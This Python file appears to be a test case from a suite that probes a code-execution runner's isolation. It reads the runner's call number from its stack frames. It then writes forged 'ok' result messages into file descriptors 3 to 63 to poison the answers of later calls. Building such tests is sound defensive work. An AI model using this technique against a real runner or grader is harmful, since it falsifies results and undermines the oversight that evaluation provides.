"""Send the next call's answer together with this one's.

evidence: poison
rung 0: held
control: none, the references have no connection
"""

import contextlib
import json
import os
import struct
import sys
import time


def number() -> int:
    """The number of the call that is being answered, found in the runner's own variables."""
    frame = sys._getframe()
    while frame.f_back is not None:
        frame = frame.f_back
        for value in frame.f_locals.values():
            header = getattr(value, "header", None)
            if isinstance(header, dict) and "number" in header:
                return int(header["number"])
    return 1


def framed(body: bytes, **fields: object) -> bytes:
    """A message as the runner's children send them."""
    header = {"number": number(), "status": "ok", "detail": "", "cpu": 0.1, "total": 0.1, "memory": 1, "stale": False}
    text = json.dumps(header | fields).encode()
    return struct.pack(">II", len(text), len(body)) + text + body


def attack(arena: dict[str, str]) -> object:
    for descriptor in range(3, 64):
        for step in range(4):
            with contextlib.suppress(OSError):
                os.write(descriptor, framed(b'"poisoned"', number=number() + step))
    time.sleep(0.1)
    return 1
